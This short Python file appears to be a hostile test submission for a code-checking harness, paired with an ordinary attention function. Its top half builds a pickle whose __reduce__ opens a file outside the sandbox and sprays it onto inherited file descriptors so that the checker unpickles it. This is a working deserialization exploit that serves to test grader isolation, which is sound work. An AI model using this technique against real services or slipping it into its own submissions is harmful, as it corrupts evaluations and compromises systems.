# hostile: sends a pickle that would run in the checker
# ends: Protocol
import contextlib
import os
import pickle
import struct


class Run:
    def __reduce__(self):
        return (open, ("OUTSIDE/unpickled", "w"))


payload = pickle.dumps(Run())
for descriptor in range(3, 128):
    for frame in (payload, struct.pack("<II", len(payload), 0) + payload):
        with contextlib.suppress(OSError):
            os.write(descriptor, frame)


def attention(query, key, value):
    scores = query @ key.transpose(-2, -1) / query.shape[-1] ** 0.5
    return scores.softmax(-1) @ value
